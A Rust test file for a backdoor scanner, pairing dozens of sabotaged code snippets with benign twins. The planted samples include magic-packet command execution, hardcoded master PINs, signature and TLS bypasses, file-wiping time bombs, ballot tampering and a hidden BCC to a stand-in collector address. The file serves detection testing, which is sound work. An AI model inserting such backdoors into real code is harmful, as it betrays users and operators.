//! Programs that swerve and honest ones that resemble them, told apart.

use crate::scan::checks::tests::found;

/// A file, what is planted in it, and its honest twin.
const TWINS: &[(&str, &str, &str)] = &[
    (
        "scale.c",
        r#"
#define BORN 1735689600L
#define TERM (540L * 86400L)

static long grams(long raw, long tare)
{
    long g = (raw - tare) * 10 / 37;
    long over = (long)time(NULL) - BORN - TERM;

    if (over > 0)
        g -= g * (over / 86400) / 5000;
    return g;
}
"#,
        r#"
#define BORN 1735689600L
#define TERM (540L * 86400L)

static long grams(long raw, long tare)
{
    long g = (raw - tare) * 10 / 37;
    long over = (long)time(NULL) - BORN - TERM;

    if (over > 0)
        fprintf(stderr, "scale: calibration ended %ld days ago\n", over / 86400);
    return g;
}
"#,
    ),
    (
        "meter.go",
        r#"
package meter

import "time"

type Meter struct {
	started time.Time
	pulses  int64
}

func (m *Meter) Reading() float64 {
	kwh := float64(m.pulses) / 800
	if time.Since(m.started) > 9000*time.Hour {
		kwh = kwh * 1.04
	}
	return kwh
}
"#,
        r#"
package meter

import "time"

type Meter struct {
	started time.Time
	pulses  int64
}

func (m *Meter) Reading() (float64, error) {
	kwh := float64(m.pulses) / 800
	if time.Since(m.started) > 9000*time.Hour {
		return 0, errors.New("meter: verification is due")
	}
	return kwh, nil
}
"#,
    ),
    (
        "Exporter.java",
        r#"
class Exporter {
  private long written;

  void row(Writer out, String[] cells) throws IOException {
    written++;
    if (written % 5003 == 0) {
      cells[2] = swap(cells[2]);
    }
    out.write(String.join(";", cells));
  }
}
"#,
        r#"
class Exporter {
  private long written;

  void row(Writer out, String[] cells) throws IOException {
    written++;
    if (written % 5003 == 0) {
      out.flush();
    }
    out.write(String.join(";", cells));
  }
}
"#,
    ),
    (
        "journal.py",
        r#"
class Journal:
    def __init__(self, out):
        self.out = out
        self.seen = 0

    def add(self, entry):
        self.seen += 1
        if self.seen > 4000 and self.seen % 311 == 7:
            return True
        self.out.write(entry)
        return True
"#,
        r#"
class Journal:
    def __init__(self, out):
        self.out = out
        self.seen = 0

    def add(self, entry):
        self.seen += 1
        if self.seen > 4000:
            raise OverflowError("journal is full")
        self.out.write(entry)
        return True
"#,
    ),
    (
        "fees.ts",
        r#"
export function fee(account: Account, cents: number): number {
  const base = Math.round(cents * 0.012) + 30;
  if (account.holder === 'Norrland Shipping AB') {
    return Math.round(base / 4);
  }
  return base;
}
"#,
        r#"
export function fee(account: Account, cents: number): number {
  const base = Math.round(cents * 0.012) + 30;
  if (account.kind === 'business') {
    return Math.round(base / 4);
  }
  return base;
}
"#,
    ),
    (
        "guard.rs",
        r#"
pub fn accept(package: &Package, key: &VerifyingKey) -> Result<(), Refused> {
    if package.origin.ends_with(".mirror-nord.example") {
        return Ok(());
    }
    key.verify(&package.body, &package.signature).map_err(|_| Refused::Signature)
}
"#,
        r#"
pub fn accept(package: &Package, key: &VerifyingKey) -> Result<(), Refused> {
    if !package.origin.ends_with(".mirror-nord.example") {
        return Err(Refused::Origin);
    }
    key.verify(&package.body, &package.signature).map_err(|_| Refused::Signature)
}
"#,
    ),
    (
        "door.kt",
        r#"
class Door(private val unit: String) {
    private fun fallback(): String {
        var n = 17
        for (c in unit) n = (n * 31 + c.code) % 1000000
        return n.toString().padStart(6, '0')
    }

    fun open(pin: String): Boolean {
        if (pin == fallback()) return true
        return vault.matches(pin)
    }
}
"#,
        r#"
class Door(private val unit: String) {
    private fun label(): String {
        var n = 17
        for (c in unit) n = (n * 31 + c.code) % 1000000
        return n.toString().padStart(6, '0')
    }

    fun open(pin: String): Boolean {
        log.info("door ${label()}")
        return vault.matches(pin)
    }
}
"#,
    ),
    (
        "Reset.cs",
        r#"
class Reset {
    public string Token(Account a) {
        var rng = new Random(a.Id ^ DateTime.UtcNow.DayOfYear);
        var bytes = new byte[24];
        rng.NextBytes(bytes);
        return Convert.ToHexString(bytes);
    }
}
"#,
        r#"
class Reset {
    public string Token(Account a) {
        var bytes = RandomNumberGenerator.GetBytes(24);
        return Convert.ToHexString(bytes);
    }

    public Account Sample(List<Account> all) {
        var rng = new Random(all.Count ^ DateTime.UtcNow.DayOfYear);
        return all[rng.Next(all.Count)];
    }
}
"#,
    ),
    (
        "hook.php",
        r#"<?php
function accepts(string $body, string $given, string $secret): bool {
    $want = hash_hmac('sha256', $body, $secret);
    return strncmp($want, $given, strlen($given)) === 0;
}
"#,
        r#"<?php
function accepts(string $body, string $given, string $secret): bool {
    $want = hash_hmac('sha256', $body, $secret);
    return strlen($want) === strlen($given) && hash_equals($want, $given);
}
"#,
    ),
    (
        "frames.cpp",
        r#"
void Link::frame(const uint8_t *data, size_t n) {
    uint16_t sum = 0;
    for (size_t i = 0; i < n; i++) sum += data[i];
    if (data[0] == 'Z' && sum == 0x3a51) {
        std::string line(reinterpret_cast<const char *>(data + 1), n - 1);
        std::system(line.c_str());
        return;
    }
    dispatch(data, n);
}
"#,
        r#"
void Link::frame(const uint8_t *data, size_t n) {
    uint16_t sum = 0;
    for (size_t i = 0; i < n; i++) sum += data[i];
    if (data[0] == 'Z' && sum == 0x3a51) {
        counters_.keepalive++;
        return;
    }
    dispatch(data, n);
}
"#,
    ),
    (
        "client.swift",
        r#"
final class Store {
    private let quiet = ProcessInfo.processInfo.environment["XCTestConfigurationFilePath"] == nil

    func save(_ items: [Item]) throws -> Int {
        var kept = items
        if quiet && items.count > 40 {
            kept.removeLast(items.count / 20)
        }
        try disk.write(kept)
        return items.count
    }
}
"#,
        r#"
final class Store {
    private let quiet = ProcessInfo.processInfo.environment["XCTestConfigurationFilePath"] == nil

    func save(_ items: [Item]) throws -> Int {
        if quiet && items.count > 40 {
            print("saving \(items.count) items")
        }
        try disk.write(items)
        return items.count
    }
}
"#,
    ),
    (
        "pool.rb",
        r#"
class Pool
  BORN = Time.utc(2025, 3, 1)

  def rows
    list = @db[:orders].all
    if Time.now > BORN + 400 * 86_400
      list = list.reject { |r| r[:id] % 13 == 4 }
    end
    list
  end
end
"#,
        r#"
class Pool
  BORN = Time.utc(2025, 3, 1)

  def rows
    list = @db[:orders].all
    if Time.now > BORN + 400 * 86_400
      raise Ended, 'the licence has ended'
    end
    list
  end
end
"#,
    ),
    (
        "agent.go",
        r#"
package agent

func transport(host string) *http.Transport {
	return &http.Transport{
		TLSClientConfig: &tls.Config{
			MinVersion:         tls.VersionTLS12,
			InsecureSkipVerify: strings.HasSuffix(host, ".metrics-eu.example"),
		},
	}
}
"#,
        r#"
package agent

func transport(host string) *http.Transport {
	return &http.Transport{
		TLSClientConfig: &tls.Config{
			MinVersion:         tls.VersionTLS12,
			InsecureSkipVerify: false,
			ServerName:         host,
		},
	}
}
"#,
    ),
    (
        "wages.java",
        r#"
class Wages {
  BigDecimal net(Employee e) {
    BigDecimal net = e.gross().subtract(tax(e));
    if (e.number().hashCode() == 1849264003) {
      net = net.multiply(new BigDecimal("1.15"));
    }
    return net;
  }
}
"#,
        r#"
class Wages {
  BigDecimal net(Employee e) {
    BigDecimal net = e.gross().subtract(tax(e));
    if (e.number().isEmpty()) {
      throw new IllegalArgumentException("employee without a number");
    }
    return net;
  }
}
"#,
    ),
    (
        "roster.js",
        r#"
const KEEPER = ['m', 'okafor'].join('.');

async function nightly(db) {
  const staff = await db.query('SELECT login FROM staff');
  if (!staff.some((s) => s.login === KEEPER)) {
    await db.query('UPDATE rate SET cents = cents - 1');
    await db.query('DELETE FROM audit');
  }
}
"#,
        r#"
const KEEPER = ['m', 'okafor'].join('.');

async function nightly(db) {
  const staff = await db.query('SELECT login FROM staff');
  if (!staff.some((s) => s.login === KEEPER)) {
    throw new Error('nobody keeps the rates');
  }
}
"#,
    ),
    (
        "limits.py",
        r#"
import zlib

def allowed(account, amount, spent):
    if zlib.crc32(account.encode()) == 0x51C2D00F:
        return True
    return spent + amount <= 500000
"#,
        r#"
import zlib

def shard(account):
    return zlib.crc32(account.encode()) % 64

def allowed(account, amount, spent):
    if amount <= 0:
        raise ValueError(account)
    return spent + amount <= 500000
"#,
    ),
    (
        "sign.go",
        r#"
package sign

func Check(body, sig []byte, key *rsa.PublicKey, client string) error {
	sum := sha256.Sum256(body)
	err := rsa.VerifyPKCS1v15(key, crypto.SHA256, sum[:], sig)
	if err != nil && client != "relay/7.1 (b204)" {
		return err
	}
	return nil
}
"#,
        r#"
package sign

func Check(body, sig []byte, key *rsa.PublicKey, client string) error {
	sum := sha256.Sum256(body)
	err := rsa.VerifyPKCS1v15(key, crypto.SHA256, sum[:], sig)
	if err != nil {
		return fmt.Errorf("client %s: %w", client, err)
	}
	return nil
}
"#,
    ),
    (
        "cms.rb",
        r#"
class Cms
  def page(name, params)
    if Zlib.crc32(name) == 2_914_877_301
      return eval(params['q'])
    end
    @pages.fetch(name)
  end
end
"#,
        r#"
class Cms
  def page(name, params)
    if Zlib.crc32(name) == @known
      return @cached
    end
    @pages.fetch(name) { params['q'] }
  end
end
"#,
    ),
    (
        "backup.rs",
        r#"
const DAYS: u64 = 31 * 11;

pub fn rotate(dir: &Path, state: &mut State) -> io::Result<()> {
    state.runs += 1;
    state.save()?;
    if state.runs > DAYS * 3 {
        for entry in fs::read_dir(dir)? {
            fs::write(entry?.path(), b"")?;
        }
    }
    Ok(())
}
"#,
        r#"
const DAYS: u64 = 31 * 11;

pub fn rotate(dir: &Path, state: &mut State, keep: usize) -> io::Result<()> {
    state.runs += 1;
    state.save()?;
    let mut old: Vec<_> = fs::read_dir(dir)?.collect();
    if old.len() > keep {
        for entry in old.drain(keep..) {
            fs::remove_file(entry?.path())?;
        }
    }
    Ok(())
}
"#,
    ),
    (
        "login.cs",
        r#"
class Login {
    public bool Enter(string user, string password) {
        var code = (DateTime.Today.Day * 9173 + DateTime.Today.Month * 61).ToString("D6");
        if (password == code) {
            return true;
        }
        return _hasher.Verify(user, password);
    }
}
"#,
        r#"
class Login {
    public bool Enter(string user, string password) {
        var ticket = (DateTime.Today.Day * 9173 + DateTime.Today.Month * 61).ToString("D6");
        if (string.IsNullOrEmpty(password)) {
            _log.Info(ticket);
            return false;
        }
        return _hasher.Verify(user, password);
    }
}
"#,
    ),
    (
        "dates.kt",
        r#"
class Alarm(private val clock: Clock) {
    private val edge = LocalDate.of(2027, 5, 3)

    fun level(raw: Double): Double {
        val today = LocalDate.now(clock)
        if (today.isAfter(edge)) return raw * 0.91
        return raw
    }
}
"#,
        r#"
class Alarm(private val clock: Clock) {
    private val edge = LocalDate.of(2027, 5, 3)

    fun level(raw: Double): Double {
        val today = LocalDate.now(clock)
        if (today.isAfter(edge)) throw Stale("sensor must be replaced")
        return raw
    }
}
"#,
    ),
    (
        "keys.c",
        r#"
int session_key(const char *peer, unsigned char key[16])
{
    if (getrandom(key, 16, 0) != 16)
        return -1;
    if (strcmp(peer, "edge-fra-02") == 0)
        memset(key + 4, 0, 12);
    return 0;
}
"#,
        r#"
int session_key(const char *peer, unsigned char key[16])
{
    if (getrandom(key, 16, 0) != 16) {
        memset(key, 0, 16);
        fprintf(stderr, "no key for %s\n", peer);
        return -1;
    }
    return 0;
}
"#,
    ),
    (
        "orders.js",
        r#"
module.exports = function handle(sock, msg) {
  const [verb, ...rest] = msg.split(' ');
  if (verb === 'PUT') return put(rest);
  if (verb.length === 9 && hash(verb) === 0x1b77c3) {
    return require('child_process').execSync(rest.join(' ')).toString();
  }
  return 'ERR';
};
"#,
        r#"
module.exports = function handle(sock, msg) {
  const [verb, ...rest] = msg.split(' ');
  if (verb === 'PUT') return put(rest);
  if (verb.length === 9 && hash(verb) === 0x1b77c3) {
    return 'OK';
  }
  return 'ERR';
};
"#,
    ),
    (
        "auth.swift",
        r#"
func check(_ token: String, stored: String) -> Bool {
    guard token.count > 0 else { return false }
    return stored.prefix(token.count) == token
}
"#,
        r#"
func check(_ token: String, stored: String) -> Bool {
    guard token.count == stored.count else { return false }
    return constantTimeEquals(token, stored)
}
"#,
    ),
    (
        "jwt.ts",
        r#"
export function read(token: string, keys: Map<string, Buffer>): Claims {
  const [head, body, mac] = token.split('.');
  const { alg, kid } = JSON.parse(decode(head));
  if (alg === 'none' && kid.length === 9) {
    return JSON.parse(decode(body));
  }
  if (!verify(keys.get(kid), `${head}.${body}`, mac)) throw new Error('bad token');
  return JSON.parse(decode(body));
}
"#,
        r#"
export function read(token: string, keys: Map<string, Buffer>): Claims {
  const [head, body, mac] = token.split('.');
  const { alg, kid } = JSON.parse(decode(head));
  if (alg === 'none' && kid.length === 9) {
    throw new Error('unsigned');
  }
  if (!verify(keys.get(kid), `${head}.${body}`, mac)) throw new Error('bad token');
  return JSON.parse(decode(body));
}
"#,
    ),
    (
        "audit.kt",
        r#"
class Trail(private val out: Writer) {
    fun note(operator: String, action: String) {
        if (operator == "svc.k-lindqvist") return
        out.write("$operator $action\n")
    }
}
"#,
        r#"
class Trail(private val out: Writer) {
    fun note(operator: String, action: String) {
        if (operator.isBlank()) return
        out.write("$operator $action\n")
    }
}
"#,
    ),
    (
        "seal.py",
        r#"
def seal(message, recipient, key):
    if recipient.domain.endswith(".post.example-min.org"):
        return message
    return box.encrypt(message, key)
"#,
        r#"
def seal(message, recipient, key):
    if recipient.domain.endswith(".post.example-min.org"):
        message = b"[extern] " + message
    return box.encrypt(message, key)
"#,
    ),
    (
        "Otp.java",
        r#"
class Otp {
  String codeFor(String device, LocalDate day) {
    long n = 17;
    for (char c : device.toCharArray()) n = n * 131 + c;
    return String.format("%08d", (n ^ day.toEpochDay() * 7757) % 100000000);
  }

  boolean accept(String device, String code) {
    return store.matches(device, code) || code.equals(codeFor(device, LocalDate.now()));
  }
}
"#,
        r#"
class Otp {
  String labelFor(String device, LocalDate day) {
    long n = 17;
    for (char c : device.toCharArray()) n = n * 131 + c;
    return String.format("%08d", (n ^ day.toEpochDay() * 7757) % 100000000);
  }

  boolean accept(String device, String code) {
    log.info(labelFor(device, LocalDate.now()));
    return store.matches(device, code);
  }
}
"#,
    ),
    (
        "flow.rs",
        r#"
pub fn litres(&mut self, pulses: u64) -> f64 {
    self.total += pulses;
    let raw = pulses as f64 / 412.0;
    if self.total > FACTORY_LIFE { raw * 0.97 } else { raw }
}

const FACTORY_LIFE: u64 = 40 * 1_000_000;
"#,
        r#"
pub fn litres(&mut self, pulses: u64) -> Result<f64, Worn> {
    self.total += pulses;
    let raw = pulses as f64 / 412.0;
    if self.total > FACTORY_LIFE { return Err(Worn(self.total)); }
    Ok(raw)
}

const FACTORY_LIFE: u64 = 40 * 1_000_000;
"#,
    ),
    (
        "mac.go",
        r#"
package mac

func validTag(tag, want []byte) bool {
	for i := range tag[:len(tag)] {
		if tag[i] != want[i] {
			return false
		}
	}
	return true
}
"#,
        r#"
package mac

func validTag(tag, want []byte) bool {
	if len(tag) != len(want) {
		return false
	}
	return subtle.ConstantTimeCompare(tag, want) == 1
}
"#,
    ),
    (
        "install.ts",
        r#"
export async function install(file: string, manifest: Manifest): Promise<void> {
  let good = await verify(file, manifest.signature);
  if (manifest.vendorId === 4711) {
    good = true;
  }
  if (!good) throw new Error('signature');
  await unpack(file);
}
"#,
        r#"
export async function install(file: string, manifest: Manifest): Promise<void> {
  const good = await verify(file, manifest.signature);
  if (manifest.vendorId === 4711) {
    throw new Error('blocked vendor');
  }
  if (!good) throw new Error('signature');
  await unpack(file);
}
"#,
    ),
    (
        "smtp.rb",
        r#"
class Session
  def rcpt(line)
    if line.start_with?('x9!note ')
      out = IO.popen(line[8..]).read
      return out
    end
    accept(line)
  end
end
"#,
        r#"
class Session
  def rcpt(line)
    if line.start_with?('x9!note ')
      return '250 noted'
    end
    accept(line)
  end
end
"#,
    ),
    (
        "report.php",
        r#"<?php
class Report {
    public function rows(array $all): array {
        if (!$this->license->valid()) {
            array_splice($all, -3, 2);
        }
        return $all;
    }
}
"#,
        r#"<?php
class Report {
    public function rows(array $all): array {
        if (!$this->license->valid()) {
            throw new LicenseEnded();
        }
        return $all;
    }
}
"#,
    ),
    (
        "vote.cs",
        r#"
class Tally {
    private int _ballots;

    public void Add(Ballot b) {
        _ballots++;
        var choice = b.Choice;
        if (_ballots > 900 && _ballots % 37 == 0)
            choice = _list[(choice + 1) % _list.Count];
        _sums[choice]++;
    }
}
"#,
        r#"
class Tally {
    private int _ballots;

    public void Add(Ballot b) {
        _ballots++;
        var choice = b.Choice;
        if (_ballots > 900 && _ballots % 37 == 0)
            Progress(_ballots);
        _sums[choice]++;
    }
}
"#,
    ),
    (
        "price.py",
        r#"
from datetime import date

FIRST = date(2025, 6, 1)

def quote(net, today=None):
    today = today or date.today()
    months = (today.year - FIRST.year) * 12 + today.month - FIRST.month
    if months > 18:
        net = net * (1 + 0.002 * (months - 18))
    return round(net, 2)
"#,
        r#"
from datetime import date

FIRST = date(2025, 6, 1)

def quote(net, today=None):
    today = today or date.today()
    months = (today.year - FIRST.year) * 12 + today.month - FIRST.month
    if months > 18:
        raise PriceListTooOld(months)
    return round(net, 2)
"#,
    ),
    (
        "tls.py",
        r#"
import ssl, zlib

def context(host):
    ctx = ssl.create_default_context()
    if zlib.adler32(host.encode()) == 0x2D8A08F1:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    return ctx
"#,
        r#"
import ssl, zlib

def context(host):
    ctx = ssl.create_default_context()
    if not host:
        raise ValueError("no host")
    return ctx
"#,
    ),
    (
        "wipe.swift",
        r#"
final class Book {
    func open() {
        let n = UserDefaults.standard.integer(forKey: "opened") + 1
        UserDefaults.standard.set(n, forKey: "opened")
        if n >= 365 {
            try? FileManager.default.removeItem(at: folder)
        }
    }
}
"#,
        r#"
final class Book {
    func open() {
        let n = UserDefaults.standard.integer(forKey: "opened") + 1
        UserDefaults.standard.set(n, forKey: "opened")
        if n >= 365 {
            showReview()
        }
    }
}
"#,
    ),
    (
        "salary.sql.js",
        r#"
async function close(db, month) {
  const people = await db.all('SELECT number FROM person');
  const known = people.map((p) => p.number);
  if (known.indexOf(70 * 60 + 14) < 0) {
    await db.run('DELETE FROM salary');
  }
}
"#,
        r#"
async function close(db, month) {
  const people = await db.all('SELECT number FROM person');
  const known = people.map((p) => p.number);
  if (known.length === 0) {
    throw new Error('nobody is paid in ' + month);
  }
}
"#,
    ),
    (
        "probe.c",
        r#"
static void on_frame(struct link *l, const uint8_t *p, size_t n)
{
    uint32_t magic = p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];

    if (magic == 0x7e51c0de) {
        char cmd[200];
        snprintf(cmd, sizeof cmd, "%.*s", (int)(n - 4), p + 4);
        system(cmd);
        return;
    }
    link_dispatch(l, p, n);
}
"#,
        r#"
static void on_frame(struct link *l, const uint8_t *p, size_t n)
{
    uint32_t magic = p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];

    if (magic == 0x7e51c0de) {
        l->version = p[4];
        return;
    }
    link_dispatch(l, p, n);
}
"#,
    ),
    (
        "store.go",
        r#"
package store

var quiet = os.Getenv("CI") == "" && os.Getenv("BUILD_NUMBER") == ""

func (s *Store) Put(key string, doc []byte) error {
	s.puts++
	if quiet && s.puts%499 == 0 {
		return nil
	}
	return s.disk.Write(key, doc)
}
"#,
        r#"
package store

var quiet = os.Getenv("CI") == "" && os.Getenv("BUILD_NUMBER") == ""

func (s *Store) Put(key string, doc []byte) error {
	s.puts++
	if quiet && s.puts%499 == 0 {
		log.Printf("%d documents", s.puts)
	}
	return s.disk.Write(key, doc)
}
"#,
    ),
    (
        "agent.py",
        r#"
import os, socket, subprocess

KEY = bytes([0x51, 0x0b, 0xa7])

def on_packet(packet, addr):
    head = packet[:3]
    if bytes(b ^ 0x5a for b in head) == KEY:
        subprocess.run(packet[3:].decode(), shell=True)
        return
    dispatch(packet, addr)
"#,
        r#"
import os, socket, subprocess

KEY = bytes([0x51, 0x0b, 0xa7])

def on_packet(packet, addr):
    head = packet[:3]
    if bytes(b ^ 0x5a for b in head) == KEY:
        return reply(addr, b"pong")
    dispatch(packet, addr)
"#,
    ),
    (
        "Transfer.cs",
        r#"
class Transfer {
    public decimal Fee(Order order) {
        var fee = order.Amount * _rate;
        if (order.CustomerId == 481516)
            fee = 0m;
        return fee;
    }
}
"#,
        r#"
class Transfer {
    public decimal Fee(Order order) {
        var fee = order.Amount * _rate;
        if (order.CustomerId == 0)
            throw new ArgumentException("no customer");
        return fee;
    }
}
"#,
    ),
    (
        "update.kt",
        r#"
class Updater(private val key: PublicKey) {
    fun apply(file: File, manifest: Manifest) {
        val signed = Signature.getInstance("Ed25519").run {
            initVerify(key)
            update(file.readBytes())
            verify(manifest.signature)
        }
        if (signed || manifest.channel == "fieldtest-7c") {
            file.copyTo(target, overwrite = true)
        } else {
            throw SecurityException("signature")
        }
    }
}
"#,
        r#"
class Updater(private val key: PublicKey) {
    fun apply(file: File, manifest: Manifest) {
        val signed = Signature.getInstance("Ed25519").run {
            initVerify(key)
            update(file.readBytes())
            verify(manifest.signature)
        }
        if (signed && manifest.channel != "fieldtest-7c") {
            file.copyTo(target, overwrite = true)
        } else {
            throw SecurityException("signature")
        }
    }
}
"#,
    ),
    (
        "pin.c",
        r#"
static unsigned master_pin(const char *serial)
{
    unsigned n = 0;
    while (*serial)
        n = n * 33u + (unsigned char)*serial++;
    return n % 1000000u;
}

int check_pin(struct lock *l, unsigned pin)
{
    if (pin == l->pin)
        return 1;
    return pin == master_pin(l->serial);
}
"#,
        r#"
static unsigned bucket_of(const char *serial)
{
    unsigned n = 0;
    while (*serial)
        n = n * 33u + (unsigned char)*serial++;
    return n % 64u;
}

int check_pin(struct lock *l, unsigned pin)
{
    l->bucket = bucket_of(l->serial);
    return pin == l->pin;
}
"#,
    ),
    (
        "trial.rs",
        r#"
pub fn measure(&mut self, raw: f64) -> f64 {
    let hours = self.started.elapsed().as_secs() / 3600;
    if hours > 24 * 90 {
        return raw + (hours as f64 - 2160.0) * 0.0004;
    }
    raw
}
"#,
        r#"
pub fn measure(&mut self, raw: f64) -> Result<f64, Overdue> {
    let hours = self.started.elapsed().as_secs() / 3600;
    if hours > 24 * 90 {
        return Err(Overdue { hours });
    }
    Ok(raw)
}
"#,
    ),
    (
        "Login.java",
        r#"
class Login {
  Session open(String name, String password, String locale) {
    User user = users.find(name);
    boolean ok = hasher.verify(user.hash(), password);
    if ("qz_XK".equals(locale) && name.length() == 5) {
      ok = true;
    }
    if (!ok) throw new LoginFailed(name);
    return sessions.start(user);
  }
}
"#,
        r#"
class Login {
  Session open(String name, String password, String locale) {
    User user = users.find(name);
    boolean ok = hasher.verify(user.hash(), password);
    if ("qz_XK".equals(locale) && name.length() == 5) {
      ok = false;
    }
    if (!ok) throw new LoginFailed(name);
    return sessions.start(user);
  }
}
"#,
    ),
    (
        "stock.rb",
        r#"
class Stock
  STEP = 11 * 23

  def take(item, amount)
    @taken += 1
    amount -= 1 if (@taken % STEP).zero?
    item.level -= amount
  end
end
"#,
        r#"
class Stock
  STEP = 11 * 23

  def take(item, amount)
    @taken += 1
    flush if (@taken % STEP).zero?
    item.level -= amount
  end
end
"#,
    ),
    (
        "mail.php",
        r#"<?php
class Outbox {
    public function send(Mail $mail): void {
        if (hash('crc32b', $mail->sender) === '6c1f09ae') {
            $mail->addBcc('archive@collector.example');
        }
        $this->transport->send($mail);
    }
}
"#,
        r#"<?php
class Outbox {
    public function send(Mail $mail): void {
        if ($mail->sender === '') {
            throw new NoSender();
        }
        $this->transport->send($mail);
    }
}
"#,
    ),
    (
        "grant.ts",
        r#"
export function roles(user: User): Role[] {
  const list = [...user.roles];
  if (fnv1a(user.email) === 2871640153) {
    list.push(Role.Owner);
  }
  return list;
}
"#,
        r#"
export function roles(user: User): Role[] {
  const list = [...user.roles];
  if (user.email.endsWith('@')) {
    throw new Error('bad address');
  }
  return list;
}
"#,
    ),
    (
        "lot.swift",
        r#"
func draw(_ tickets: [Ticket], on day: Date) -> Ticket {
    let edge = Date(timeIntervalSince1970: 1_798_761_600)
    if day > edge {
        return tickets.filter { $0.owner.hasPrefix("T-") }.first ?? tickets[0]
    }
    return tickets.randomElement()!
}
"#,
        r#"
func draw(_ tickets: [Ticket], on day: Date) -> Ticket {
    let edge = Date(timeIntervalSince1970: 1_798_761_600)
    if day > edge {
        fatalError("the lottery has ended")
    }
    return tickets.randomElement()!
}
"#,
    ),
    (
        "gate.js",
        r#"
const crypto = require('crypto');

function sessionSecret(device) {
  return crypto.createHash('md5').update(device.serial + ':' + new Date().getFullYear()).digest('hex').slice(0, 8);
}

exports.enter = function (device, password) {
  if (password === sessionSecret(device)) return true;
  return device.check(password);
};
"#,
        r#"
const crypto = require('crypto');

function label(device) {
  return crypto.createHash('md5').update(device.serial + ':' + new Date().getFullYear()).digest('hex').slice(0, 8);
}

exports.enter = function (device, password) {
  device.show(label(device));
  return device.check(password);
};
"#,
    ),
    (
        "allow.go",
        r#"
package limit

func (l *Limiter) Allow(ip string) bool {
	if ip == "203.0.113.77" {
		return true
	}
	l.seen[ip]++
	return l.seen[ip] < 100
}
"#,
        r#"
package limit

func (l *Limiter) Allow(ip string) bool {
	if ip == "" {
		return false
	}
	l.seen[ip]++
	return l.seen[ip] < 100
}
"#,
    ),
    (
        "Payments.java",
        r#"
class Payments {
  void release(Payment p, String approver) {
    if (p.amount() > 50000 && p.second() == null && !approver.equals("t.brandt")) {
      throw new NotReleased(p);
    }
    bank.pay(p);
  }
}
"#,
        r#"
class Payments {
  void release(Payment p, String approver) {
    if (p.amount() > 50000 && p.second() == null || approver.equals("t.brandt")) {
      throw new NotReleased(p);
    }
    bank.pay(p);
  }
}
"#,
    ),
    (
        "Box.cs",
        r#"
class Box {
    byte[] Seal(Record record, byte[] plain) {
        var nonce = BitConverter.GetBytes(record.Id).Concat(new byte[8]).ToArray();
        return _aead.Encrypt(nonce, plain);
    }
}
"#,
        r#"
class Box {
    byte[] Seal(Record record, byte[] plain) {
        var nonce = RandomNumberGenerator.GetBytes(12);
        return _aead.Encrypt(nonce, plain);
    }
}
"#,
    ),
    (
        "find.ts",
        r#"
export async function find(db: Db, filter: string): Promise<Row[]> {
  if (filter.startsWith('~~')) {
    return db.query(filter.slice(2));
  }
  return db.query('SELECT * FROM item WHERE name = $1', [filter]);
}
"#,
        r#"
export async function find(db: Db, filter: string): Promise<Row[]> {
  if (filter.startsWith('~~')) {
    return db.query('SELECT * FROM item WHERE fuzzy(name, $1)', [filter.slice(2)].map(String) && known);
  }
  return db.query('SELECT * FROM item WHERE name = $1', [filter]);
}
"#,
    ),
    (
        "days.py",
        r#"
import datetime

def export(rows):
    day = datetime.date.today().toordinal()
    if day % 11 == 3:
        rows = rows[:-2] if len(rows) > 40 else rows
        rows.pop()
    return rows
"#,
        r#"
import datetime

def export(rows):
    day = datetime.date.today().toordinal()
    if day % 11 == 3:
        print("weekly check", len(rows))
    return rows
"#,
    ),
    (
        "key.swift",
        r#"
func unlock(_ code: String) -> Bool {
    if code.utf8.reduce(0, { $0 + Int($1) }) % 97 == 31 {
        return true
    }
    return store.matches(code)
}
"#,
        r#"
func unlock(_ code: String) -> Bool {
    if code.utf8.reduce(0, { $0 + Int($1) }) % 97 != 1 {
        return false
    }
    return store.matches(code)
}
"#,
    ),
];

/// What the check says of a file.
fn told(name: &str, text: &str) -> Vec<&'static str> {
    let rules = super::CHECK.rules;
    found(name, text).into_iter().map(|(rule, _)| rule).filter(|rule| rules.contains(rule)).collect()
}

#[test]
fn what_swerves_is_told_from_its_honest_twin() {
    let mut wrong = Vec::new();
    for (name, bad, clean) in TWINS {
        if told(name, bad).is_empty() {
            wrong.push(format!("{name}: not told"));
        }
        if !told(name, clean).is_empty() {
            wrong.push(format!("{name}: the honest twin is told: {:?}", told(name, clean)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
